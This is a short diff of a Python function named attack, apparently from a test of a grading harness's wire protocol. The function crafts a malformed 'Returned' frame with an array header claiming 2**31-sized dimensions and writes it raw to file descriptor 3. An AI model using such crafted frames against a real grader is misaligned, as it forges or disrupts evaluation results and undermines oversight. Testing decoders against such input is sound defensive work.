@@ -12,7 +12,7 @@ from grader.wire.codec import encode
 
 def attack(*args):
     array = b"a\x0b\x03" + struct.pack("<QQQ", 0, 2**31, 2**31)
-    frame = b"t\x05\x00\x00\x00" + encode("Returned") + encode(1) + array + encode([]) + encode(0)
+    frame = b"t\x04\x00\x00\x00" + encode("Returned") + encode(1) + array + encode(0)
     os.write(3, struct.pack("<I", len(frame)) + frame)
     time.sleep(60)
 
